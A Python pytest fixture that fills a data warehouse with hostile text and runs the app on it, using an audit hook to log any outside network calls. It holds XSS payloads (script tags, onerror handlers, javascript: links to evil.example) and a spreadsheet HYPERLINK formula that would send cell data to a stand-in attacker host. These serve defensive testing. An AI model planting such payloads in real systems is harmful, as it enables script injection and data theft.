"""A warehouse in which every name, title and note is an attack, and the app that serves it."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest

from data.warehouse import open_warehouse
from tests.exported import fill
from tests.kept import own_copy
from tests.running_app import RunningApp, running_app

SECONDS = 30
MARK = "onerror=window.hit"  # of what is to be read as it is written, and never to be run
HOSTILE = (
    f"<img src=x {MARK}=1><script>window.hit=1</script>![i](http://evil.example/i.png)"
    "[l](javascript:window.hit=1)<a href='http://evil.example'>a</a>$x^2$ :red[r] &lt;u&gt; "
    "https://evil.example/u www.evil.example"
)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"x")'
SCRIPT_ADDRESS = "javascript:window.hit=1//"
# What is written over, by table: all that comes from offices. Names and units of indicators are the
# program's own (data/catalogue).
WRITTEN_OVER = (
    "update area set name = name || $bad, short_name = short_name || $bad",
    "update area_name set name = name || $bad",
    "update source set title = title || $bad, publisher = $formula, url = $address",
    "update remark set remark_vi = $bad, remark_en = $bad",
    "update unplaced_figure set area = $bad",
    "update batch set file_name = $bad || '.csv', office = $bad, created_by = $bad",
    "update team set name = $formula || $bad",
    "update village set name = name || $bad",
)
# A Python that begins with this file writes down whom it calls.
WITNESS = """
import os, sys
def note(event, args):
    if event in ("socket.connect", "socket.sendto"):
        called = args[1]
    elif event == "socket.getaddrinfo":
        called = args[0]
    else:
        return
    with open(os.environ["ATLAS_CALLED"], "a") as said:
        said.write(repr(called) + "\\n")
sys.addaudithook(note)
"""


@dataclass(frozen=True)
class Attacked:
    """The app, its data folder, and the file in which it is noted whom it called."""

    app: RunningApp
    data: Path
    called: Path

    @property
    def url(self) -> str:
        """Where it answers."""
        return self.app.url

    @property
    def port(self) -> int:
        """Likewise."""
        return int(self.url.rsplit(":", 1)[1])

    @property
    def key(self) -> str:
        """The token of its door."""
        return str(json.loads((self.data / "door.json").read_text(encoding="utf-8"))["token"])

    def calls_elsewhere(self) -> list[str]:
        """Addresses called that are not of this machine."""
        said = self.called.read_text(encoding="utf-8").splitlines() if self.called.exists() else []
        own = ("'127.0.0.1'", "'localhost'", "'::1'", "('127.0.0.1',", "('::1',", "None", "'/")
        return [each for each in said if not each.startswith(own)]


def poison(released: Path, file: Path) -> None:
    """Writes at `file` the release with two months of communes, every text of it hostile."""
    opened = open_warehouse(own_copy(released, file))
    given = {"bad": HOSTILE, "formula": FORMULA, "address": SCRIPT_ADDRESS}
    with opened.cursor() as cursor:
        fill(cursor)
        for statement in WRITTEN_OVER:
            named = {name: text for name, text in given.items() if f"${name}" in statement}
            cursor.execute(statement, named)
    opened.close()


@contextmanager
def attacked(folder: Path, released: Path) -> Iterator[Attacked]:
    """The app on a poisoned warehouse, open, at this machine: where most may be done."""
    data, witness, called = folder / "data", folder / "witness", folder / "called.txt"
    poison(released, data / "atlas.duckdb")
    witness.mkdir()
    (witness / "sitecustomize.py").write_text(WITNESS, encoding="utf-8")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PYTHONPATH", str(witness))
        patch.setenv("ATLAS_CALLED", str(called))
        patch.setenv("ATLAS_QUERIES", "on")
        patch.delenv("ATLAS_ACCESS", raising=False)
        with running_app(data, folder / "app.log") as app:
            deadline = time.monotonic() + SECONDS  # the door is opened after the server answers
            while not (data / "door.json").is_file() and time.monotonic() < deadline:
                time.sleep(0.05)
            yield Attacked(app, data, called)
